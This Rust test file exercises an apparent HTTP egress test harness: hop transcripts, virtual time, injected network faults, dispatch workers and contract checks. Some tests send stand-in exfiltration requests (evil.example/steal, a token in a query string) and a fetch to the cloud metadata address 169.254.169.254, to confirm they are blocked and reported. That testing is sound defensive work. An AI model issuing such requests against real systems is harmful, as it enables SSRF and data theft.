//! The library's own powers: what it sees, its clock, its seed, its faults, and how it tells a difference.

use std::time::{Duration, Instant};

use serde_json::json;
use tollgate_test::{
    End, Expect, ExpectRequest, Fault, Hop, Limits, Origin, Payload, Reply, Request, Run, Secrets, TestError, contract,
};

use crate::{ask, fetch, lab, operators, pair, suite, user};

const URL: &str = "http://api.example.com/v1";

fn hello() -> Origin {
    Origin::new().reply("http://api.example.com/*", Reply::text("hello"))
}

#[test]
fn a_run_tells_every_hop() {
    for (first, second) in [("test-user", "test-outbound"), ("test-user-3", "test-outbound-3")] {
        let run = pair(first, second).origin(hello()).send(fetch(URL)).unwrap();
        run.assert_transcript(
            r#"
            to alice: GET http://alice.example/fetch, x-target-url: http://api.example.com/v1 => 200 "hello"
            to outbound: GET http://api.example.com/v1 customer_name="alice" => 200 "hello"
            to network: GET http://api.example.com/v1, x-hop: outbound, x-intercepted-for: "alice" => 200 "hello"
            arrived: GET http://api.example.com/v1, x-hop: outbound, x-intercepted-for: "alice"
            response: 200 "hello"
            "#,
        );
    }
}

#[test]
#[should_panic(expected = "origin[0].headers.x-hop: expected \"two\", found \"outbound\"")]
fn a_difference_says_where_and_both_sides() {
    let run = suite().origin(hello()).send(fetch(URL)).unwrap();
    run.assert(&Expect::new().origin(ExpectRequest::new("GET", URL).header("x-hop", "two")));
}

#[test]
#[should_panic(expected = "origin: expected 0 requests, found 1 request: GET http://api.example.com/v1")]
fn a_request_too_many_is_a_difference() {
    suite().origin(hello()).send(fetch(URL)).unwrap().assert(&Expect::new().no_origin());
}

#[test]
fn an_hour_takes_no_time() {
    for name in ["test-user", "test-user-3"] {
        let composition = lab().compose().user("alice", &user(name)).unwrap();
        let began = Instant::now();
        let run = composition.send(ask("/sleep?ms=250000")).unwrap();
        assert!(began.elapsed() < Duration::from_secs(60), "{:?} on a real clock", began.elapsed());
        run.assert(&Expect::new().status(200).lasted_ms(250_000, 260_000));
        let run = composition
            .clone()
            .limits(Limits { wall_ms: Some(1_000), ..Limits::default() })
            .send(ask("/sleep?ms=250000"));
        assert_eq!(run.unwrap().failure.unwrap(), "worker exceeded its wall time limit of 1000 ms");
    }
}

/// Whoever asks for several things at once is told apart from run to run by nothing: not by how fast the machine is, and not by
/// what else it runs, though that be a thousand instances.
#[test]
fn requests_at_once_are_the_same_in_each_run() {
    for (first, second) in [("test-user", "test-outbound"), ("test-user-3", "test-outbound-3")] {
        let composition = pair(first, second).origin(hello()).fault_at(Hop::Network, 7, Fault::Refuse).unwrap();
        let one = || composition.send(ask("/fetch-many?n=60&parallel=1").header("x-target-url", URL).unwrap());
        let first = one().unwrap().to_string();
        assert_eq!(first.matches("ConnectionRefused").count(), 2, "{first}");
        std::thread::scope(|scope| {
            for _ in 0..8 {
                scope.spawn(|| (0..3).for_each(|_| assert_eq!(one().unwrap().to_string(), first)));
            }
        });
    }
}

#[test]
fn streaming_shows_in_when_the_pieces_came() {
    let slow = Payload::of("first ").then(Duration::from_secs(100), "last");
    let origin = Origin::new().reply(URL, Reply::text("").body(slow));
    for (first, second) in [("test-user", "test-outbound"), ("test-user-3", "test-outbound-3")] {
        // Longer than the default between two pieces, which is a minute.
        let run = pair(first, second).origin(origin.clone()).send(fetch(URL)).unwrap();
        assert!(matches!(run.response.body.end, End::Cut(_)), "{run}");
        assert_eq!(run.response.text(), "first ");
        let slow = Payload::of("first ").then(Duration::from_secs(50), "last");
        let origin = Origin::new().reply(URL, Reply::text("").body(slow));
        let run = pair(first, second).origin(origin).send(fetch(URL)).unwrap();
        assert_eq!(run.response.text(), "first last");
        let came: Vec<_> = run.response.body.pieces.iter().map(|(at, bytes)| (at.as_secs(), *bytes)).collect();
        assert_eq!(came, [(0, 6), (50, 4)]);
    }
}

#[test]
fn every_fault_at_every_hop_is_what_it_says() {
    let faults = [
        (Hop::Network, Fault::Refuse, "ConnectionRefused"),
        (Hop::Network, Fault::Reset, "ConnectionTerminated"),
        (Hop::Outbound, Fault::Refuse, "ConnectionRefused"),
        (Hop::Outbound, Fault::Trap, "HttpResponseIncomplete"),
        (Hop::Outbound, Fault::OverLimit, "HttpResponseIncomplete"),
    ];
    for (first, second) in [("test-user", "test-outbound"), ("test-user-3", "test-outbound-3")] {
        for (hop, fault, words) in faults.clone() {
            let run = pair(first, second).origin(hello()).fault(hop, fault.clone()).unwrap().send(fetch(URL)).unwrap();
            assert_eq!(run.response.status, 599, "{hop:?} {fault:?}: {run}");
            assert!(run.response.text().contains(words), "{hop:?} {fault:?}: {run}");
            assert!(run.arrived.is_empty(), "{run}");
        }
        let run =
            pair(first, second).origin(hello()).fault(Hop::Entrance, Fault::Trap).unwrap().send(fetch(URL)).unwrap();
        assert_eq!(run.failure.unwrap(), "worker trapped: a fault on purpose");
    }
}

#[test]
fn a_stall_lasts_as_long_as_somebody_has_patience() {
    let run = suite().origin(hello()).fault(Hop::Network, Fault::Stall).unwrap();
    let run = run.limits(Limits { wall_ms: Some(5_000), ..Limits::default() }).send(fetch(URL)).unwrap();
    assert_eq!(run.failure.unwrap(), "worker exceeded its wall time limit of 5000 ms");
    assert_eq!(run.lasted.as_secs(), 5);
    // Without such a limit, the egress's own patience ends first, as on a host: a minute.
    let run = suite().origin(hello()).fault(Hop::Network, Fault::Stall).unwrap().send(fetch(URL)).unwrap();
    assert!(run.response.text().contains("ConnectionReadTimeout"), "{run}");
    assert_eq!(run.lasted.as_secs(), 60);
}

#[test]
fn a_service_is_called_past_the_outbound_worker() {
    let caller = user("test-user").service("NEIGHBOUR", "bob").unwrap();
    let composition = lab().compose().user("alice", &caller).unwrap().user("bob", &user("test-user")).unwrap();
    let composition = composition.outbound(&operators("test-outbound"));
    let request = fetch("http://anywhere.test/hello").header("x-service", "NEIGHBOUR").unwrap();
    let run = composition.send(request.clone()).unwrap();
    assert_eq!(run.response.text(), "hello", "{run}");
    assert_eq!((run.over(Hop::Service).len(), run.over(Hop::Outbound).len()), (1, 0));
    let run = composition.fault(Hop::Service, Fault::Refuse).unwrap().send(request).unwrap();
    assert!(run.response.text().contains("ConnectionRefused"), "{run}");
}

#[test]
fn a_fault_that_no_request_meets_is_a_difference() {
    let run = suite().origin(hello()).fault_at(Hop::Outbound, 2, Fault::Refuse).unwrap().send(fetch(URL)).unwrap();
    let found = run.differs(&Expect::new().status(200));
    assert_eq!(
        found[0].to_string(),
        "fault: expected a request that it is for, found none: Refuse at hop Outbound, request 2"
    );
}

#[test]
fn a_worker_that_fails_is_as_expected_only_where_that_is_said() {
    let run = suite().origin(hello()).send(ask("/trap")).unwrap();
    for expect in [Expect::new().no_origin(), Expect::new().status(502).no_origin()] {
        let found = run.differs(&expect);
        assert_eq!(found.iter().map(|one| one.at.as_str()).collect::<Vec<_>>(), ["failure"]);
        assert!(found[0].to_string().starts_with("failure: expected an answer of a worker's, found "), "{}", found[0]);
    }
    run.assert(&Expect::new().status(502).failure("trapped").printed("boom").no_origin());
}

#[test]
fn what_nobody_would_receive_is_refused() {
    let composition = lab().compose().user("alice", &user("test-user")).unwrap().outbound(&operators("test-outbound"));
    let dispatched = composition.dispatch(&operators("test-dispatch"), "dispatcher", &json!([])).unwrap();
    let error = dispatched.parameter("customer_name", "alice").send(ask("/hello")).unwrap_err();
    assert!(error.to_string().starts_with("parameters, where the dispatch worker receives the request"), "{error}");
    let alone = lab().compose().user("alice", &user("test-user")).unwrap();
    let error = alone.clone().parameter("customer_name", "alice").send(ask("/hello")).unwrap_err();
    assert!(error.to_string().starts_with("parameters, where there is no outbound worker"), "{error}");
    let declared = alone.dispatch(&operators("test-dispatch"), "dispatcher", &json!(["customer_name"])).unwrap();
    let error = declared.send(ask("/hello")).unwrap_err();
    assert!(
        error.to_string().starts_with("the dispatch binding declares \"customer_name\", where there is no"),
        "{error}"
    );
}

#[test]
fn two_customers_workers_of_one_name_are_refused() {
    let composition = lab().compose().user("alice", &user("test-user")).unwrap();
    let error = composition.user("alice", &user("hello-2")).err().unwrap();
    assert_eq!(error.to_string(), "two customers' workers are named alice: give each its name");
}

#[test]
fn a_dispatch_binding_names_the_outbound_worker_that_there_is() {
    let dispatched = lab().compose().dispatch(&operators("test-dispatch"), "dispatcher", &json!([])).unwrap();
    let composition = dispatched.outbound(&operators("pass-2")).user("alice", &user("test-user")).unwrap();
    let run = composition.origin(hello()).send(fetch(URL).header("x-worker", "alice").unwrap()).unwrap();
    assert_eq!(run.over(Hop::Outbound).len(), 1, "{run}");
}

#[test]
fn a_body_that_breaks_off_is_expected_only_where_that_is_said() {
    let run = suite().origin(hello()).fault(Hop::Network, Fault::Cut { after_bytes: 2 }).unwrap();
    let run = run.send(fetch(URL)).unwrap();
    let found = run.differs(&Expect::new().status(200).body("he"));
    assert_eq!(found.iter().map(|one| one.at.as_str()).collect::<Vec<_>>(), ["cut"]);
    assert!(found[0].to_string().starts_with("cut: expected a whole body, found one that breaks off"), "{}", found[0]);
}

#[test]
fn a_request_for_a_head_alone_has_a_whole_body_which_is_empty() {
    for (first, second) in [("test-user", "test-outbound"), ("test-user", "test-outbound-3"), ("test-user-3", "pass-3")]
    {
        let head = Request::new("HEAD", "http://alice.example/fetch").unwrap().header("x-target-url", URL).unwrap();
        let run = pair(first, second).origin(hello()).send(head).unwrap();
        run.assert(&Expect::new().status(200).body("").origin(ExpectRequest::new("HEAD", URL)));
        let outbound = run.over(Hop::Outbound)[0].answer.as_ref().unwrap().as_ref().unwrap();
        assert!(!matches!(outbound.body.end, End::Cut(_)), "{run}");
    }
}

#[tokio::test]
async fn a_run_may_be_made_within_a_runtime() {
    suite().origin(hello()).send(fetch(URL)).unwrap().assert_response(200, "hello");
}

/// The statements that are not kept, each with what is told of it.
type Broken = Vec<(&'static str, Vec<String>)>;

fn broken(statements: Vec<contract::Verdict>) -> Broken {
    let told = |one: contract::Verdict| (one.id, one.differences.iter().map(ToString::to_string).collect());
    statements.into_iter().filter(|one| !one.differences.is_empty()).map(told).collect()
}

/// What the guard breaks of its contract with a fault.
fn broken_by_the_guard(fault: &str) -> Broken {
    let guard = operators("guard-3").variable("FAULT", fault).unwrap();
    let alone = lab().compose().outbound(&guard).parameter("customer_name", "alice");
    broken(contract::outbound(&alone).unwrap())
}

#[test]
fn a_contract_is_broken_where_the_worker_breaks_it() {
    let broken = |fault| broken_by_the_guard(fault).into_iter().map(|(id, _)| id).collect::<Vec<_>>();
    assert_eq!(broken(""), Vec::<&str>::new());
    assert_eq!(broken("5"), ["A02", "A30", "A31"]);
    assert_eq!(broken("6"), ["A02", "A26", "A30"]);
    assert_eq!(broken("7"), ["A03", "A31"]);
}

#[test]
fn what_a_worker_breaks_of_its_contract_is_all_that_is_told() {
    for (fault, id, difference) in [
        ("14", "A26", "request body: expected its first piece at once, found its first piece after 10 s"),
        ("15", "A26", "response body: expected its first piece at once, found its first piece after 10 s"),
        ("16", "A30", "origin[0].trailers.x-up: expected \"1\", found nothing"),
        ("17", "A02", "headers.x-twice: expected [\"first\", \"second\"], found [\"first, second\"]"),
    ] {
        let broken = broken_by_the_guard(fault);
        assert_eq!(broken.iter().map(|(id, _)| *id).collect::<Vec<_>>(), [id], "{fault}: {broken:?}");
        assert!(broken[0].1.iter().all(|told| told.ends_with(difference)), "{fault}: {broken:?}");
    }
}

#[test]
fn a_dispatch_workers_contract_is_broken_by_the_status_that_it_gives() {
    let broken_by = |error: &str, status: &str| {
        let worker = operators("test-dispatch-3").variable(error, status).unwrap();
        let with = |outbound: bool| {
            let bare = lab().compose().dispatch(&worker, "dispatcher", &json!([])).unwrap();
            Some(if outbound { bare.outbound(&operators("pass-3")) } else { bare })
        };
        broken(contract::dispatch(&with, &|name| format!("http://{name}.localhost/")).unwrap())
    };
    let one = |id, difference: &str| (id, vec![difference.to_owned()]);
    assert_eq!(broken_by("worker_failed", "500"), Broken::new());
    let (same, trapped) = ("status of a trap: expected another than 404, found 404", "status: expected 5xx, found 404");
    assert_eq!(broken_by("worker_failed", "404"), [one("C02", same), one("C04", trapped)]);
    assert_eq!(broken_by("worker_failed", "429"), [one("C04", "status: expected 5xx, found 429")]);
    let missing = "status: expected 404, found 502";
    assert_eq!(broken_by("worker_not_found", "502"), [one("C02", missing), one("C03", missing)]);
    let (used, found) = ("status: expected 4xx or 5xx, found 200", "status: expected 404, found 200");
    assert_eq!(broken_by("worker_not_found", "200"), [one("C01", used), one("C02", found), one("C03", found)]);
}

#[test]
fn a_body_is_cut_or_drips_where_it_is_asked_to() {
    for hop in [Hop::Network, Hop::Outbound] {
        let run = suite().origin(hello()).fault(hop, Fault::Cut { after_bytes: 2 }).unwrap().send(fetch(URL)).unwrap();
        assert_eq!(run.response.text(), "he");
        run.assert(&Expect::new().cut());
        let drip = Fault::Drip { bytes: 2, every: Duration::from_secs(1) };
        let run = suite().origin(hello()).fault(hop, drip).unwrap().send(fetch(URL)).unwrap();
        assert_eq!(run.response.text(), "hello");
        let came: Vec<_> = run.response.body.pieces.iter().map(|(at, bytes)| (at.as_secs(), *bytes)).collect();
        assert_eq!(came, [(1, 2), (2, 2), (3, 1)], "{hop:?}");
    }
}

#[test]
fn a_fault_may_be_for_one_request_among_several() {
    let many = ask("/fetch-many?n=3").header("x-target-url", URL).unwrap();
    let run = suite().origin(hello()).fault_at(Hop::Outbound, 2, Fault::Refuse).unwrap().send(many).unwrap();
    assert_eq!(run.over(Hop::Outbound).len(), 3, "{run}");
    assert_eq!(run.arrived.len(), 2);
    let refused: Vec<_> = run.over(Hop::Outbound).iter().map(|one| matches!(one.answer, Some(Err(_)))).collect();
    assert_eq!(refused, [false, true, false]);
}

#[test]
fn a_dispatch_worker_stands_before_it_all() {
    for dispatch in ["test-dispatch", "test-dispatch-3"] {
        let composition =
            lab().compose().user("alice", &user("test-user")).unwrap().outbound(&operators("test-outbound"));
        let composition = composition.dispatch(&operators(dispatch), "dispatcher", &json!(["customer_name"])).unwrap();
        let request = fetch(URL).header("x-worker", "alice").unwrap();
        let request = request.header("x-parameters", r#"{"customer_name":"alice"}"#).unwrap();
        let run = composition.origin(hello()).send(request).unwrap();
        run.assert_response(200, "hello");
        let hops: Vec<_> = run.exchanges.iter().flatten().map(|one| one.hop).collect();
        assert_eq!(hops, [Hop::Entrance, Hop::Dispatch, Hop::Outbound, Hop::Network]);
    }
}

#[test]
fn what_a_deploy_refuses_is_refused() {
    let error = lab().user(tollgate_tests::guest("test-outbound").unwrap()).unwrap_err();
    assert!(error.to_string().contains("does not fit world \"user-worker\""), "{error}");
    let typed = lab().compose().user("alice", &user("test-user")).unwrap().outbound(&operators("test-typed"));
    let error = typed.parameter("quota", "many").send(fetch(URL)).unwrap_err();
    assert!(matches!(error, TestError::Refused(_)), "{error}");
}

#[test]
#[should_panic(expected = "+fault that no request met: Refuse at hop Service")]
fn a_transcript_tells_a_fault_that_no_request_meets() {
    let run = suite().origin(hello()).fault(Hop::Service, Fault::Refuse).unwrap().send(fetch(URL)).unwrap();
    run.assert_transcript(&run.to_string());
}

#[test]
fn a_host_that_no_rule_knows_has_no_address() {
    let run = suite().origin(hello()).send(fetch("http://elsewhere.example/")).unwrap();
    assert!(run.response.text().contains("DnsError"), "{run}");
    let run = suite().origin(hello()).send(fetch("http://169.254.169.254/latest")).unwrap();
    assert!(run.response.text().contains("DestinationIpProhibited"), "{run}");
}

/// Every difference, told.
fn told(run: &Run, expect: &Expect) -> Vec<String> {
    run.differs(expect).iter().map(ToString::to_string).collect()
}

#[test]
fn what_comes_to_no_origin_is_seen() {
    let away = |url: &str| suite().origin(hello()).send(fetch(url)).unwrap();
    let evil = away("http://evil.example/steal");
    let found = "origin: expected no other request, found GET http://evil.example/steal, which no rule is for";
    assert_eq!(told(&evil, &Expect::new().no_origin()), [found]);
    evil.assert(&Expect::new().status(599));
    let inside = told(&away("http://169.254.169.254/latest"), &Expect::new().no_origin());
    let prohibited =
        "origin: expected no other request, found GET http://169.254.169.254/latest, which did not arrive: ";
    assert!(inside.len() == 1 && inside[0].starts_with(prohibited), "{inside:?}");
    // What arrives, and what a planned fault keeps back, is nowhere else.
    away(URL).assert(&Expect::new().origin(ExpectRequest::any()));
    let refused = suite().origin(hello()).fault(Hop::Network, Fault::Refuse).unwrap().send(fetch(URL)).unwrap();
    refused.assert(&Expect::new().no_origin());
    let cut = suite().origin(hello()).fault(Hop::Network, Fault::Cut { after_bytes: 1 }).unwrap();
    let cut = cut.send(fetch("http://evil.example/steal")).unwrap();
    assert_eq!(told(&cut, &Expect::new().no_origin()), [found]);
}

#[test]
fn who_asks_somewhere_else_changes_something() {
    let away = |url: &str| suite().origin(hello()).send(fetch(url)).unwrap();
    let secrets = Secrets::new(Vec::new(), Vec::new()).unwrap();
    let (one, other) = (away("http://evil.example/steal"), away("http://evil.example/more"));
    assert_eq!(one.response.text(), other.response.text());
    assert_eq!(one.changes(&one, &secrets), "");
    let changes = other.changes(&one, &secrets);
    for line in ["-to network: GET http://evil.example/steal", "+to network: GET http://evil.example/more"] {
        assert!(changes.contains(line), "{changes}");
    }
    let changes = away("http://evil.example/?token=a").changes(&away("http://evil.example/?token=b"), &secrets);
    assert_eq!(changes, "what differs is a secret, or beyond what is shown of a body");
}

#[test]
fn a_request_that_breaks_off_is_expected_only_where_that_is_said() {
    let run = suite().origin(hello()).send(ask("/trap-mid-request").header("x-target-url", URL).unwrap()).unwrap();
    let expect = Expect::new().failure("trapped");
    let found = told(&run, &expect.clone().origin(ExpectRequest::new("POST", URL)));
    let words = "origin[0].cut: expected a whole body, found one that breaks off: ";
    assert!(found.len() == 1 && found[0].starts_with(words), "{found:?}");
    run.assert(&expect.origin(ExpectRequest::new("POST", URL).body("half").cut()));
    // Of one that is replied to early nobody minds how it ends.
    let early = Origin::new().reply(URL, Reply::text("").early());
    let run = suite().origin(early).send(ask("/trap-mid-request").header("x-target-url", URL).unwrap()).unwrap();
    run.assert(&Expect::new().failure("trapped").origin(ExpectRequest::any()).outbound(ExpectRequest::any()));
}

#[test]
fn the_same_seed_is_the_same_run() {
    let run = |seed: u64| {
        let composition = lab().compose().user("alice", &user("test-user")).unwrap();
        composition.seed(seed).send(ask("/random")).unwrap().response.text()
    };
    assert_eq!(run(1), run(1));
    assert_ne!(run(1), run(2));
}

#[test]
fn a_rule_may_be_for_so_many_requests() {
    let origin = Origin::new().rule(Some("GET"), URL, Some(2), Reply::text("early")).reply(URL, Reply::text("late"));
    let many = ask("/fetch-many?n=3").header("x-target-url", URL).unwrap();
    let run = suite().origin(origin).send(many).unwrap();
    assert_eq!(run.response.text().lines().collect::<Vec<_>>(), ["early", "early", "late"], "{run}");
}
